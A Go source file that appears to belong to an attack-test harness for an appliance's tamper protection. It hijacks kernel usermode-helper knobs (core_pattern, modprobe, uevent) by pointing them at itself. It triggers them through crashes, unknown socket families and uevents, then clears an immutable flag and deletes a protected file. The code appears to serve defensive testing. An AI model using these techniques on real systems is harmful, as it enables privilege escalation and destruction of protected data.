package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/holdfast-appliance/holdfast/firmware/caps"
)

// helperConf is where the attacker tells the helper which pack to destroy.
const helperConf = "/tmp/hf-helper.conf"

type helperConfig struct {
	Store string `json:"store"`
	Pack  string `json:"pack"`
}

// helperReport is what a helper run writes to /tmp/<name>.result.
type helperReport struct {
	UID    int    `json:"uid"`
	CapEff uint64 `json:"cap_eff"`
	CapErr string `json:"cap_err,omitempty"`
	Clear  string `json:"clear"`
	Unlink string `json:"unlink"`
}

// helperMain is helper mode: the kernel ran this binary as a usermode
// helper through a /tmp/hf-helper-* symlink.
func helperMain(base string, stderr io.Writer) int {
	if err := guard(true, boardFile, pid1CommFile); err != nil {
		fmt.Fprintf(stderr, "holdfast-attack (helper mode): %v\n", err)
		return 2
	}
	rep := helperReport{UID: os.Getuid()}
	if s, err := caps.Read(0); err == nil {
		rep.CapEff = uint64(s.Effective)
	} else {
		rep.CapErr = err.Error()
	}
	var c helperConfig
	b, err := os.ReadFile(helperConf)
	if err == nil {
		err = json.Unmarshal(b, &c)
	}
	if err != nil || c.Store == "" || c.Pack == "" {
		rep.Clear, rep.Unlink = fmt.Sprintf("no usable %s: %v", helperConf, err), "not tried"
	} else {
		p := filepath.Join(c.Store, filepath.FromSlash(c.Pack))
		rep.Clear = errOr(clearFlagPath(p, flagImmutable), "ok")
		rep.Unlink = errOr(unix.Unlink(p), "ok")
	}
	// The first run's report wins: later runs (uevents come in bursts)
	// find the pack already gone.
	out, _ := json.Marshal(rep)
	final := "/tmp/" + base + ".result"
	tmp := final + "." + strconv.Itoa(os.Getpid())
	if err := os.WriteFile(tmp, out, 0o644); err == nil {
		_ = os.Link(tmp, final)
		_ = os.Remove(tmp)
	}
	if base == helperPrefix+"core" {
		_, _ = io.Copy(io.Discard, io.LimitReader(os.Stdin, 1<<30))
	}
	return 0
}

// clearFlagPath clears an inode flag on path.
func clearFlagPath(p string, bit uint32) error {
	fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK|attackOpen, 0)
	if err != nil {
		return fmt.Errorf("open: %w", err)
	}
	defer unix.Close(fd)
	flags, err := unix.IoctlGetUint32(fd, unix.FS_IOC_GETFLAGS)
	if err != nil {
		return fmt.Errorf("FS_IOC_GETFLAGS: %w", err)
	}
	if err := unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, int(flags&^bit)); err != nil {
		return fmt.Errorf("FS_IOC_SETFLAGS: %w", err)
	}
	return nil
}

// helperTechnique points a kernel usermode-helper knob at this binary,
// triggers the helper, waits 5 s for its report and puts the knob back.
func (e *env) helperTechnique(kind, knob, prefix string, trigger func(e *env) string) result {
	name := strings.TrimPrefix(knob, "/proc/sys/")
	old, err := os.ReadFile(knob)
	if errors.Is(err, fs.ErrNotExist) {
		return naf("%s absent (kernel without it)", knob)
	}
	link := "/tmp/" + helperPrefix + kind
	resFile := link + ".result"
	_ = os.Remove(link)
	_ = os.Remove(resFile)
	var setup []string
	// Once the knob is back, nothing may run the helper any more.
	defer os.Remove(helperConf)
	defer os.Remove(link)
	if err := os.Symlink(e.self, link); err != nil {
		setup = append(setup, "symlink: "+err.Error())
	}
	conf, _ := json.Marshal(helperConfig{Store: e.cfg.store, Pack: e.t.helperPack})
	if err := os.WriteFile(helperConf, conf, 0o644); err != nil {
		setup = append(setup, "conf: "+err.Error())
	}
	rels := []string{".", filepath.Dir(e.t.helperPack), e.t.helperPack}
	before, berr := e.states(rels)
	if werr := writeKnob(knob, prefix+link); werr != nil {
		return refusedf("write %s: %v", name, werr)
	}
	trig := trigger(e)
	var rep helperReport
	ran := false
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		if b, err := os.ReadFile(resFile); err == nil && json.Unmarshal(b, &rep) == nil {
			ran = true
			break
		}
	}
	restore := string(old)
	if strings.TrimSpace(restore) == "" {
		restore = "\n"
	}
	back := errOr(writeKnob(knob, restore), "ok")
	after, aerr := e.states(rels)
	var changes []change
	if berr == nil && aerr == nil {
		changes = diffStates(before, after)
	}
	head := fmt.Sprintf("%s WRITABLE (set to %q, restored: %s); trigger: %s", name, prefix+link, back, trig)
	if len(setup) > 0 {
		head += "; setup: " + strings.Join(setup, ", ")
	}
	extra := rep.CapEff &^ e.capEff
	destroyed := rep.Clear == "ok" || rep.Unlink == "ok"
	switch {
	case len(changes) > 0:
		return succeededf("%s; store changed: %s", head, summarize(changes, 3))
	case !ran:
		return refusedf("%s; the helper never ran within 5 s", head)
	case extra != 0 || destroyed:
		return succeededf("%s; helper ran as uid %d with CapEff 0x%016x (beyond ours: 0x%x); clear immutable: %s; unlink: %s", head, rep.UID, rep.CapEff, extra, rep.Clear, rep.Unlink)
	default:
		return refusedf("%s; helper ran as uid %d with CapEff 0x%016x (nothing beyond ours); clear immutable: %s; unlink: %s", head, rep.UID, rep.CapEff, rep.Clear, rep.Unlink)
	}
}

// triggerCore crashes a child with a core dump.
func triggerCore(e *env) string {
	lim := unix.Rlimit{Cur: unix.RLIM_INFINITY, Max: unix.RLIM_INFINITY}
	if unix.Setrlimit(unix.RLIMIT_CORE, &lim) != nil {
		var cur unix.Rlimit
		if unix.Getrlimit(unix.RLIMIT_CORE, &cur) == nil {
			cur.Cur = cur.Max
			_ = unix.Setrlimit(unix.RLIMIT_CORE, &cur)
		}
	}
	cmd := exec.Command(e.self, "-crash")
	cmd.Args[0] = "holdfast-attack"
	cmd.Env = []string{"GOTRACEBACK=crash", "PATH=/bin:/sbin:/usr/bin:/usr/sbin"}
	cmd.Dir = "/"
	return "crashing child: " + errOr(cmd.Run(), "exited 0")
}

// unregisteredFamilies are address families that are modules, or gone, in
// most kernels: socket() on one that is not registered asks for module
// net-pf-N.
var unregisteredFamilies = []int{4, 5, 6, 8, 9, 11, 12, 13, 14, 15, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45}

// triggerModprobe makes the kernel call request_module.
func triggerModprobe(e *env) string {
	res := "/tmp/" + helperPrefix + "modprobe.result"
	tried := 0
	for _, fam := range unregisteredFamilies {
		tried++
		if fd, err := unix.Socket(fam, unix.SOCK_DGRAM, 0); err == nil {
			unix.Close(fd)
		}
		if _, err := os.Stat(res); err == nil {
			break
		}
	}
	// An executable whose first four bytes match no binary format; /tmp
	// may be noexec, so the initramfs root is tried too.
	img := append([]byte{0xff, 0xff, 0xff, 0xff}, make([]byte, 252)...)
	var xerr error
	for _, dir := range []string{"/tmp", "/"} {
		bin := filepath.Join(dir, "hf-attack-unknown-binfmt")
		if xerr = os.WriteFile(bin, img, 0o755); xerr == nil {
			xerr = exec.Command(bin).Run()
			_ = os.Remove(bin)
		}
		if !errors.Is(xerr, fs.ErrPermission) {
			break
		}
	}
	return fmt.Sprintf("socket() with %d unregistered families; exec of an unknown binary format: %s", tried, errOr(xerr, "ran"))
}

// triggerUevent asks the kernel for a uevent.
func triggerUevent(*env) string {
	var parts []string
	for _, p := range []string{"/sys/class/mem/null/uevent", "/sys/devices/virtual/mem/zero/uevent"} {
		parts = append(parts, fmt.Sprintf("change to %s: %s", p, errOr(writeKnob(p, "change"), "ok")))
	}
	return strings.Join(parts, ", ")
}
